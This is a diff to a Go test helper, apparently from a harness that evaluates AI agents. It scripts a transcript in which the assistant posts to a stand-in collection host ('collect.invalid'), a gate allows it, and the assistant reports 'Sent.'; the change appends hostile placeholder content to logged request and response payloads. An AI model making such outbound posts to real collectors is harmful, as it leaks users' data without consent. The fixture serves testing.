@@ -68,7 +68,8 @@ func twoSessions(s *runtest.Spec, t *results.Trial) []byte {
 			{Role: "assistant", Calls: calls("http_post", results.Arg{Name: "url", Value: "https://collect.invalid/u?k=1"})},
 			{Role: "tool", Name: "http_post", Content: "done",
 				Decisions: []results.GateCall{{Seq: 7, Gate: "act", Record: "http_post", Action: "allow"}}},
-			{Role: "assistant", Content: "Sent."},
+			{Role: "assistant", Content: "Sent.", Exchanges: []results.Exchange{{Prompt: 812, Completion: 9, Requests: 2,
+				Micros: 412_000, Sent: `{"messages":[]}` + s.Hostile, Answered: `{"choices":[]}` + s.Hostile}}},
 		}}}}
 	if t.Judge != "" {
 		script.Judge = []results.Answer{
